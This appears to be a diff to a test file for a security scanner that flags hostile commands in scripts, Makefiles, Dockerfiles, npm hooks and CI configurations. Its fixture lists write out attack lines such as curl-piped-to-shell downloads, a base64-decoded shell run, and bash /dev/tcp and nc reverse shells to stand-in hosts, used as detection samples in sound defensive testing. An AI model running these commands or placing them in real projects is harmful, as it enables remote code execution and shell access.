@@ -2,11 +2,12 @@ from pathlib import Path
 
 import pytest
 
-from openvet.artifacts import Script
+from openvet.artifacts import Config, Script
 from openvet.check import Context
 from openvet.checks.security.script_in_repository import ScriptInRepository
 from openvet.finding import Severity
-from openvet.readers.script import ScriptReader
+from openvet.readers.script import ConfigScriptReader, ScriptReader
+from openvet.subject import Origin
 from specimens.reading import read
 from specimens.repositories import put
 
@@ -17,6 +18,9 @@ HOSTILE = [
     'eval "$(curl -fsSL https://a.invalid/x)"',
     "curl -o x https://a.invalid/x && chmod +x x && ./x",
     "curl https://a.invalid/x \\\n  | bash",
+    "curl https://a.invalid/x | python3 -",
+    "curl https://a.invalid/x | sudo python3",
+    "curl https://a.invalid/x | python3 - --now",
     "echo aGk= | base64 -d | sh",
     "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
     "nc -e /bin/sh 192.0.2.1 4444",
@@ -37,6 +41,9 @@ PLAIN = [
     "# curl https://a.invalid | sh",
     "curl -L https://a.example/data.tar.gz | tar xz",
     "torchrun --nproc_per_node 8 train.py | tee log.txt",
+    "curl -s https://a.example/v1/models | python3 -m json.tool",
+    "curl -s https://a.example | python -c 'import json, sys; json.load(sys.stdin)'",
+    "wget -qO- https://a.example | perl -pe 's/a/b/'",
 ]
 
 
@@ -72,3 +79,67 @@ def test_a_script_is_known_by_first_line_or_extension() -> None:
     assert read(reader, b"@echo off\r\n", name="run.bat")
     assert not read(reader, b"#!/usr/bin/env python\n", name="run")
     assert not read(reader, b"ls\n", name="notes.txt")
+
+
+PIPED = "curl https://a.invalid/x | sh"
+SHELL = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
+
+
+def of_file(name: str, source: str) -> list[Severity]:
+    (script,) = read(ScriptReader(), source.encode(), name=name)
+    assert isinstance(script, Script)
+    return [f.severity for f in ScriptInRepository().run(script, Context())]
+
+
+def of_config(name: str, data: object) -> list[Severity]:
+    origin = Origin(place=(name,), digest="0")
+    config = Config(origin=origin, format="json", name=name, data=data)
+    scripts = [
+        one
+        for one in ConfigScriptReader().read(config, Context())
+        if isinstance(one, Script)
+    ]
+    found = [f for one in scripts for f in ScriptInRepository().run(one, Context())]
+    return [finding.severity for finding in found]
+
+
+def test_a_makefile_is_judged_as_a_script() -> None:
+    assert of_file("Makefile", f"all:\n\t{PIPED}\n") == [Severity.HIGH]
+    assert of_file("GNUmakefile", "all:\n\tpython train.py\n") == [Severity.LOW]
+
+
+@pytest.mark.parametrize("name", ["Dockerfile", "gpu.dockerfile", "Dockerfile.cpu"])
+def test_a_download_in_a_recipe_is_a_review_and_worse_fails(name: str) -> None:
+    assert of_file(name, f"FROM a\nRUN {PIPED}\n") == [Severity.MEDIUM]
+    assert set(of_file(name, f"FROM a\nRUN {SHELL}\n")) == {Severity.HIGH}
+    assert of_file(name, "FROM a\nRUN pip install torch && apt-get update\n") == []
+
+
+def test_what_npm_runs_by_itself_fails_and_other_scripts_are_left() -> None:
+    assert of_config("package.json", {"scripts": {"postinstall": PIPED}}) == [
+        Severity.HIGH
+    ]
+    assert of_config("package.json", {"scripts": {"setup": PIPED}}) == []
+    shapes: list[object] = [{"scripts": []}, {"scripts": {"postinstall": 1}}, [], None]
+    for odd in shapes:
+        assert of_config("package.json", odd) == []
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        {"jobs": {"a": {"steps": [{"run": SHELL}]}}},
+        {"test": {"script": ["echo x", SHELL]}},
+        {"services": {"a": {"command": SHELL}}},
+        {"postCreateCommand": SHELL},
+        {"build": {"run": [SHELL]}},
+    ],
+)
+def test_commands_in_configurations_are_judged(data: object) -> None:
+    assert set(of_config("any.yml", data)) == {Severity.HIGH}
+
+
+def test_ordinary_commands_of_a_server_are_silent() -> None:
+    data = {"jobs": {"a": {"steps": [{"run": "pip install .\npytest"}]}}}
+    assert of_config("ci.yml", data) == []
+    assert of_config("config.json", {"run": 3, "command": {"a": None}}) == []
